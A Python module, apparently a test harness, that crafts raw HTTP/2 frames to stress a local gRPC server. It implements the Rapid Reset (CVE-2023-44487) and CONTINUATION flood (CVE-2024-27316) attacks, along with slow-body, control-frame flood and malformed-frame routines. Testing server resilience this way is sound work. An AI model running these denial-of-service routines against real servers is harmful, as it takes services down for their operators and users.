"""Abuse of HTTP/2 below gRPC: raw bytes and hand-made frames on the socket of a server."""

from __future__ import annotations

import asyncio
import random
import struct
from contextlib import suppress
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_HEADERS: Final = 4


def frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    """Return a frame of RFC 9113, 4.1."""
    return struct.pack(">I", len(body))[1:] + struct.pack(">BBI", kind, flags, stream) + body


def literal(name: str, value: str) -> bytes:
    """Return a header as RFC 7541, 6.2.2 has it: new name, not indexed, without Huffman."""
    head, rest = name.encode(), value.encode()
    return b"\x00" + bytes([len(head)]) + head + bytes([len(rest)]) + rest


def call_headers(path: str) -> bytes:
    """Return the header block of a gRPC call."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost"}
    fields |= {"te": "trailers", "content-type": "application/grpc"}
    return b"".join(literal(*field) for field in fields.items())


async def send(port: int, *parts: bytes, pause_s: float = 0.0) -> None:
    """Send parts to the port, one after the other, and take what comes; errors are the server's."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        for part in parts:
            writer.write(part)
            await writer.drain()
            if pause_s:
                await asyncio.sleep(pause_s)
        with suppress(TimeoutError):
            async with asyncio.timeout(0.2):
                await reader.read(65_536)
    except ConnectionError:
        pass
    finally:
        writer.close()
        with suppress(ConnectionError):
            await writer.wait_closed()


async def garbage(port: int, seed: int) -> None:
    """Send bytes that are not HTTP, then a preface and bytes that are no frames."""
    rng = random.Random(seed)
    await send(port, rng.randbytes(rng.choice((1, 24, 1_000, 60_000))))
    await send(port, PREFACE + rng.randbytes(2_000))
    await send(port, PREFACE, frame(rng.randrange(256), rng.randrange(256), 1, rng.randbytes(50)))


async def rapid_reset(port: int, path: str, streams: int = 2_000) -> None:
    """Open streams and reset each at once (CVE-2023-44487)."""
    block = call_headers(path)
    opened = [
        frame(HEADERS, END_HEADERS, 2 * number + 1, block)
        + frame(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", 8))
        for number in range(streams)
    ]
    await send(port, PREFACE + frame(SETTINGS, 0, 0, b""), *opened)


async def header_flood(port: int, path: str, parts: int = 400) -> None:
    """Send headers that go on and on (CVE-2024-27316): continuations without an end."""
    more = literal("x-" + "h" * 100, "v" * 120) * 60
    flood = [frame(CONTINUATION, 0, 1, more) for _ in range(parts)]
    start = frame(HEADERS, 0, 1, call_headers(path))
    await send(port, PREFACE + frame(SETTINGS, 0, 0, b"") + start, *flood)


async def slow_body(port: int, path: str) -> None:
    """Announce a large message and send it a byte at a time, then leave."""
    start = (
        PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, call_headers(path))
    )
    announced = frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 4_000_000))
    await send(port, start, announced, *[frame(DATA, 0, 1, b"\x0a")] * 20, pause_s=0.05)


async def floods(port: int) -> None:
    """Send pings, settings and window updates as fast as the socket takes them."""
    pings = frame(PING, 0, 0, b"12345678") * 5_000
    settings = frame(SETTINGS, 0, 0, b"") * 5_000
    windows = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 5_000
    for flood in (pings, settings, windows):
        await send(port, PREFACE + frame(SETTINGS, 0, 0, b""), flood)
